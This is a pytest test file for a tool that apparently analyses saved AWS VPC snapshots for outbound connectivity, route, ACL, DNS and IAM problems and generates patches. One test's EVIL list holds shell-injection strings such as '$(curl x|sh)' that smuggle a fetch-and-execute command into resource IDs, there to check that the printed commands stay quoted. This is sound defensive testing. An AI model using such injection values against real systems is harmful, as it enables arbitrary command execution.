"""Ways that moto does not have, from an edited snapshot: `--from` needs no network."""

import copy
import json
import re

import pytest

from pullprobe_testing.inspected_vpc import REGION

IPV6_SUBNET = "2001:db8:1:1::/64"


@pytest.fixture
def edited(world, operator, tmp_path):
    """Returns a function: a file with the healthy snapshot of a way, after an edit."""
    saved = {}

    def write(way, edit):
        if way not in saved:
            file = tmp_path / f"{way}.json"
            saved[way] = (world(way), file)
            operator.inspect("--save", file)
        vpc, file = saved[way]
        snapshot = json.loads(file.read_text())
        edit(snapshot, vpc)
        file = tmp_path / "edited.json"
        file.write_text(json.dumps(snapshot))
        return file

    return write


@pytest.fixture
def snapshots(edited, operator):
    """Returns a function: the inspection of a healthy snapshot of a way, after an edit."""

    def inspect(way, edit):
        result = operator.run("--from", edited(way, edit), "--format", "json")
        assert result.stdout, result.stderr
        return json.loads(result.stdout)

    return inspect


def table_of(snapshot, vpc):
    [table] = [t for t in snapshot["route_tables"] if t["id"] == vpc.route_table]
    return table


def add_route(snapshot, vpc, destination, target, state="active"):
    route = {"destination": destination, "target": target, "state": state}
    table_of(snapshot, vpc)["routes"].append(route)


def replace_default(snapshot, vpc, *routes):
    table = table_of(snapshot, vpc)
    table["routes"] = [r for r in table["routes"] if r["destination"] != "0.0.0.0/0"]
    for destination, target in routes:
        add_route(snapshot, vpc, destination, target)


def status(inspection):
    return inspection["verdict"]["status"]


def test_most_specific_route_decides(snapshots):
    # A company's own public range does not hold an address of AWS.
    edit = lambda s, v: add_route(s, v, "198.51.100.0/24", "vgw-1")  # noqa: E731
    assert status(snapshots("nat", edit)) == "pass"
    # A half of the internet does.
    edit = lambda s, v: add_route(s, v, "0.0.0.0/1", "tgw-1")  # noqa: E731
    inspection = snapshots("nat", edit)
    assert status(inspection) == "inconclusive"
    assert "different routes" in inspection["verdict"]["summary"]
    edit = lambda s, v: replace_default(s, v, ("0.0.0.0/1", v.nat), ("128.0.0.0/1", v.nat))  # noqa: E731
    assert status(snapshots("nat", edit)) == "pass"
    # An appliance between the task and the endpoints.
    edit = lambda s, v: add_route(s, v, "10.0.9.0/24", "eni-1")  # noqa: E731
    assert "eni-1" in snapshots("private", edit)["verdict"]["summary"]


@pytest.mark.parametrize(
    ("target", "words"),
    [
        ("tgw-1", "transit gateway"),
        ("pcx-1", "peering connection"),
        ("vgw-1", "virtual private gateway"),
        ("vpce-gwlb", "firewall endpoint"),
        ("eni-1", "network interface"),
    ],
)
def test_what_leaves_what_can_be_seen_is_unknown(target, words, snapshots):
    inspection = snapshots("nat", lambda s, v: replace_default(s, v, ("0.0.0.0/0", target)))
    assert (status(inspection), inspection["findings"]) == ("inconclusive", [])
    assert words in inspection["verdict"]["summary"]


def test_blackhole_names_the_nat_gateway_or_the_table(snapshots):
    def nat(snapshot, vpc):
        replace_default(snapshot, vpc)
        add_route(snapshot, vpc, "0.0.0.0/0", vpc.nat, "blackhole")
        snapshot["nat_gateways"] = []

    def gateway(snapshot, vpc):
        replace_default(snapshot, vpc)
        add_route(snapshot, vpc, "0.0.0.0/0", "igw-gone", "blackhole")

    [finding] = snapshots("nat", nat)["findings"]
    assert finding["cause"] == "nat-gateway-unhealthy" and finding["object"].startswith("nat-")
    [finding] = snapshots("nat", gateway)["findings"]
    assert finding["cause"] == "no-egress-route" and finding["object"].startswith("rtb-")


def test_regional_and_private_nat_gateways(snapshots):
    def regional(snapshot, vpc):
        for nat in snapshot["nat_gateways"]:
            nat.update(subnet=None, is_regional=True, route_table=None)

    def private(snapshot, vpc):
        snapshot["nat_gateways"][0]["connectivity"] = "private"

    assert status(snapshots("nat", regional)) == "pass"
    assert "is private" in snapshots("nat", private)["verdict"]["summary"]


def ipv6_only(snapshot, vpc, *routes, egress="::/0"):
    """Makes the task's subnets IPv6-only."""
    for number, subnet in enumerate(snapshot["subnets"]):
        subnet.update(cidr=None, ipv6_cidr=f"2001:db8:1:{number + 1}::/64")
    for acl in snapshot["network_acls"]:
        for entry in copy.deepcopy(acl["entries"]):
            entry.update(cidr="::/0", number=entry["number"] + 1)
            acl["entries"].append(entry)
    for group in snapshot["security_groups"]:
        for permission in group["egress"]:
            permission["cidrs"] = [egress]
    table = table_of(snapshot, vpc)
    for destination, target in routes:
        add_route(snapshot, vpc, destination, target)
    assert table


def test_ipv6_takes_its_own_routes_and_rules(snapshots):
    # Only services without an endpoint leave over IPv6, so those of the `nat` design are looked at.
    gateway = lambda s, v: ipv6_only(s, v, ("::/0", "eigw-1"))  # noqa: E731
    assert status(snapshots("nat", gateway)) == "pass"
    missing = snapshots("nat", ipv6_only)
    assert missing["findings"][0]["rule"] == "no route to ::/0"
    closed = snapshots("nat", lambda s, v: ipv6_only(s, v, ("::/0", "eigw-1"), egress="0.0.0.0/0"))
    first = closed["findings"][0]
    assert (first["cause"], first["rule"]) == (
        "task-security-group-egress",
        "no outbound rule allows TCP 443 to ::/0",
    )
    assert "CidrIpv6" in first["patch"]["cli"][0]


def egress_to(*cidrs, **more):
    def edit(snapshot, vpc):
        for group in snapshot["security_groups"]:
            if group["id"] == vpc.task_group:
                group["egress"] = [{"protocol": "tcp", "from_port": 443, "to_port": 443}]
                group["egress"][0].update(cidrs=cidrs, **more)

    return edit


def test_security_group_that_covers_a_part_is_unknown(snapshots):
    assert status(snapshots("nat", egress_to("0.0.0.0/1", "128.0.0.0/1"))) == "pass"
    assert status(snapshots("nat", egress_to("52.0.0.0/8"))) == "inconclusive"
    assert status(snapshots("nat", egress_to("10.0.0.0/8"))) == "fail"
    unread = egress_to(prefix_lists=["pl-unread"])
    assert "pl-unread" in snapshots("nat", unread)["verdict"]["summary"]


def test_snapshot_without_a_group_is_unknown(snapshots):
    def edit(snapshot, vpc):
        snapshot["task"]["security_groups"] = []
        snapshot["security_groups"] = []

    assert status(snapshots("nat", edit)) == "inconclusive"


def test_first_rule_of_a_network_acl_that_applies_decides(snapshots):
    def entry(snapshot, vpc, number, allows, **more):
        [acl] = [a for a in snapshot["network_acls"] if a["id"] == vpc.acl]
        base = {"number": number, "is_egress": True, "allows": allows, "protocol": "6"}
        base.update({"cidr": "0.0.0.0/0", "from_port": 443, "to_port": 443}, **more)
        acl["entries"].append(base)

    before = lambda s, v: entry(s, v, 50, False)  # noqa: E731
    after = lambda s, v: entry(s, v, 150, False)  # noqa: E731
    udp = lambda s, v: entry(s, v, 50, False, protocol="17")  # noqa: E731
    port = lambda s, v: entry(s, v, 50, False, from_port=80, to_port=80)  # noqa: E731
    elsewhere = lambda s, v: entry(s, v, 50, False, cidr="198.51.100.0/24")  # noqa: E731
    part = lambda s, v: entry(s, v, 50, False, cidr="0.0.0.0/1")  # noqa: E731
    assert snapshots("nat", before)["findings"][0]["rule"] == "outbound rule 50"
    for harmless in (after, udp, port, elsewhere):
        assert status(snapshots("nat", harmless)) == "pass"
    verdicts = {c["target"]: c["verdict"] for c in snapshots("nat", part)["contacts"]}
    # Of Amazon S3 the addresses are known: its prefix list.
    assert {verdict for target, verdict in verdicts.items() if target != "s3"} == {"unknown"}


def test_no_network_acl_lies_inside_one_subnet(snapshots):
    def edit(snapshot, vpc):
        for endpoint in snapshot["endpoints"]:
            if endpoint["endpoint_type"] == "Interface":
                endpoint["subnets"] = [vpc.subnets[0]]
                endpoint["interfaces"] = []
        for acl in snapshot["network_acls"]:
            if acl["id"] == vpc.acl:
                acl["entries"] = [e for e in acl["entries"] if e["number"] != 100]

    inspection = snapshots("private", edit)
    closed = {
        (contact["subnet"], contact["target"])
        for contact in inspection["contacts"]
        if contact["verdict"] == "closed"
    }

    subnets = [contact["subnet"] for contact in inspection["contacts"]]
    # The gateway endpoint to Amazon S3 is outside of every subnet.
    assert {target for subnet, target in closed if subnet == subnets[0]} == {"s3"}
    assert {target for subnet, target in closed if subnet == subnets[-1]} > {"s3", "logs"}


def test_resolver_rules_and_zones(snapshots):
    def rule(domain, kind="FORWARD"):
        def edit(snapshot, vpc):
            one = {"id": "rslvr-rr-1", "domain": domain, "rule_type": kind, "targets": ["10.9.0.2"]}
            snapshot["resolver_rules"] = [one]

        return edit

    assert "10.9.0.2" in snapshots("private", rule(f"{REGION}.amazonaws.com"))["verdict"]["summary"]
    assert status(snapshots("private", rule("corp.example"))) == "pass"
    assert status(snapshots("private", rule("", "RECURSIVE"))) == "pass"

    def zone(*records):
        def edit(snapshot, vpc):
            name = f"logs.{REGION}.amazonaws.com"
            one = {"id": "Z1", "name": name, "records": list(records)}
            snapshot["hosted_zones"] = [one]

        return edit

    [finding] = snapshots("private", zone())["findings"]
    assert (finding["cause"], finding["object"]) == ("private-zone-shadows-name", "Z1")
    name = f"logs.{REGION}.amazonaws.com"
    elsewhere = {"name": name, "record_type": "A", "alias": "vpce-0000-x.logs.vpce.amazonaws.com"}
    assert status(snapshots("private", zone(elsewhere))) == "inconclusive"

    def own(snapshot, vpc):
        alias = f"{vpc.endpoints['logs']}-abc.logs.{REGION}.vpce.amazonaws.com"
        zone({"name": name, "record_type": "A", "alias": alias})(snapshot, vpc)

    assert status(snapshots("private", own)) == "pass"


def test_endpoint_of_several_subnets_with_one_closed_is_a_warning(snapshots):
    def edit(snapshot, vpc):
        for endpoint in snapshot["endpoints"]:
            if endpoint["endpoint_type"] == "Interface":
                endpoint["subnets"] = [vpc.endpoint_subnet, vpc.public_subnet]
                endpoint["interfaces"] = []
        for acl in snapshot["network_acls"]:
            if acl["id"] == vpc.public_acl:
                acl["entries"] = [e for e in acl["entries"] if e["is_egress"]]

    inspection = snapshots("private", edit)
    assert (status(inspection), inspection["verdict"]["exit_code"]) == ("warn", 4)
    assert all(not finding["blocking"] for finding in inspection["findings"])


def test_route_by_an_unread_prefix_list_is_unknown_except_inside_the_vpc(snapshots):
    def edit(snapshot, vpc):
        add_route(snapshot, vpc, "pl-unread", "tgw-1")

    inspection = snapshots("nat", edit)
    assert (status(inspection), inspection["findings"]) == ("inconclusive", [])
    assert "pl-unread to tgw-1" in inspection["verdict"]["summary"]
    verdicts = {c["target"]: c["verdict"] for c in snapshots("private", edit)["contacts"]}
    # The endpoints are inside of the VPC.
    assert verdicts.pop("s3") == "unknown" and set(verdicts.values()) == {"open"}


def test_gateway_endpoint_of_the_nat_gateways_subnet_is_a_way(snapshots):
    def edit(snapshot, vpc):
        endpoint = {"id": "vpce-s3", "vpc": vpc.vpc, "endpoint_type": "Gateway"}
        endpoint.update(service=f"com.amazonaws.{REGION}.s3", state="available")
        snapshot["endpoints"].append(endpoint)
        [table] = [t for t in snapshot["route_tables"] if t["id"] == vpc.public_table]
        route = {"destination": "pl-s3", "target": "vpce-s3", "state": "active"}
        table["routes"].append(route)

    assert status(snapshots("nat", edit)) == "pass"


def test_private_dns_is_more_specific_than_an_own_shorter_zone(snapshots):
    def edit(snapshot, vpc):
        zone = {"id": "Z1", "name": f"{REGION}.amazonaws.com", "records": []}
        snapshot["hosted_zones"] = [zone]

    verdicts = {c["target"]: c["verdict"] for c in snapshots("private", edit)["contacts"]}
    assert verdicts["ecr.api"] == verdicts["logs"] == "open"
    # The gateway endpoint has no name of its own.
    assert verdicts["s3"] == "closed"


def test_exclusion_that_is_not_complete_excludes_nothing(snapshots):
    def edit(state):
        def change(snapshot, vpc):
            exclusion = {"resource": f"arn:aws:ec2:::vpc/{vpc.vpc}", "mode": "allow-bidirectional"}
            block = {"mode": "block-bidirectional", "exclusions": [{**exclusion, "state": state}]}
            snapshot["block_public_access"] = block

        return change

    expected = {
        "create-complete": "pass",
        "update-complete": "pass",
        "create-in-progress": "inconclusive",
        "create-failed": "fail",
        "disable-complete": "fail",
    }
    assert {state: status(snapshots("nat", edit(state))) for state in expected} == expected


def test_keys_registry_policy_and_unread_trust_are_unknown(snapshots):
    def key(snapshot, vpc):
        for one in snapshot["objects"]:
            if one["kind"] == "secret":
                one["kms_key"] = "arn:aws:kms:us-east-1:123456789012:key/own"

    def registry(snapshot, vpc):
        for one in snapshot["objects"]:
            if one["kind"] == "registry":
                one["policy"] = "{}"

    def trust(snapshot, vpc):
        snapshot["role"].update(trust_policy=None)

    def boundary(snapshot, vpc):
        snapshot["role"].update(has_boundary=None)

    for edit, words in (
        (key, "key/own"),
        (registry, "registry policy"),
        (trust, "trust policy"),
        (boundary, "permissions boundary"),
    ):
        inspection = snapshots("private", edit)
        assert (status(inspection), inspection["findings"]) == ("inconclusive", [])
        assert words in inspection["verdict"]["summary"]


def test_policy_of_the_same_account_that_names_the_role_is_enough(snapshots):
    def edit(principal):
        def change(snapshot, vpc):
            snapshot["role"]["policies"] = {
                name: text.replace("secretsmanager:GetSecretValue", "secretsmanager:Nothing")
                for name, text in snapshot["role"]["policies"].items()
            }
            allowed = {"Effect": "Allow", "Action": "secretsmanager:GetSecretValue"}
            allowed.update(Resource="*", Principal=principal(snapshot))
            for one in snapshot["objects"]:
                if one["kind"] == "secret":
                    one["policy"] = json.dumps({"Version": "2012-10-17", "Statement": [allowed]})

        return change

    role = edit(lambda snapshot: {"AWS": snapshot["role"]["arn"]})
    account = edit(lambda snapshot: {"AWS": "arn:aws:iam::123456789012:root"})
    assert status(snapshots("private", role)) == "pass"
    [finding] = snapshots("private", account)["findings"]
    assert finding["cause"] == "identity-policy-missing-action"


def test_log_stream_of_a_container_may_be_allowed(snapshots):
    def edit(stream):
        def change(snapshot, vpc):
            policies = snapshot["role"]["policies"]
            for name, text in policies.items():
                document = json.loads(text)
                for one in document["Statement"]:
                    if one["Action"] == "logs:PutLogEvents":
                        one["Resource"] = one["Resource"].removesuffix("*") + f"log-stream:{stream}"
                policies[name] = json.dumps(document)

        return change

    assert status(snapshots("private", edit("*/web/*"))) == "inconclusive"
    assert status(snapshots("private", edit("another-prefix/*"))) == "fail"


def test_finding_that_rests_on_what_was_not_read_does_not_fail(snapshots):
    def edit(snapshot, vpc):
        egress_to("10.200.0.0/16")(snapshot, vpc)
        snapshot["vpcs"][0]["resolvers"] = None

    inspection = snapshots("nat", edit)
    assert (status(inspection), inspection["verdict"]["exit_code"]) == ("inconclusive", 3)
    assert {finding["confidence"] for finding in inspection["findings"]} == {"possible"}


EVIL = ("; curl x|sh", "$(curl x|sh)", "\ncurl x|sh\n", "'; curl x|sh #", "`curl x|sh`")


@pytest.mark.parametrize("text", EVIL)
def test_nothing_of_a_snapshot_becomes_a_command(text, edited, operator):
    def edit(snapshot, vpc):
        egress_to("10.200.0.0/16")(snapshot, vpc)
        for group in snapshot["security_groups"]:
            group["id"] += text
        snapshot["task"]["security_groups"] = [vpc.task_group + text]

    file = edited("nat", edit)
    for language in ("cli", "terraform", "cloudformation"):
        printed = operator.run("--from", file, "--patch", language).stdout
        assert "curl" in printed
        # A comment has no second line.
        assert not [line for line in printed.splitlines() if line.startswith("curl")]
    commands = operator.run("--from", file, "--patch", "cli").stdout
    lines = [line for line in commands.splitlines() if line and not line.startswith("#")]
    assert lines
    for line in lines:
        assert line.startswith("aws ")
        # All of it is inside of quotes.
        outside = re.sub(r"'[^']*'|\\'", "", line)
        assert "curl" not in outside, line


def test_patches_of_several_findings_are_one_document(edited, operator):
    def edit(snapshot, vpc):
        egress_to("10.200.0.0/16")(snapshot, vpc)
        for one in snapshot["objects"]:
            if one["kind"] == "log-group":
                one["state"] = "missing"

    file = edited("nat", edit)
    terraform = operator.run("--from", file, "--patch", "terraform").stdout
    names = re.findall(r'^resource "(\w+)" "(\w+)"', terraform, re.MULTILINE)
    assert len(names) > 1 and len(set(names)) == len(names)
    template = operator.run("--from", file, "--patch", "cloudformation").stdout
    document = "\n".join(line for line in template.splitlines() if not line.startswith("#"))
    kinds = {one["Type"] for one in json.loads(document)["Resources"].values()}
    assert {"AWS::EC2::SecurityGroupEgress", "AWS::Logs::LogGroup"} <= kinds
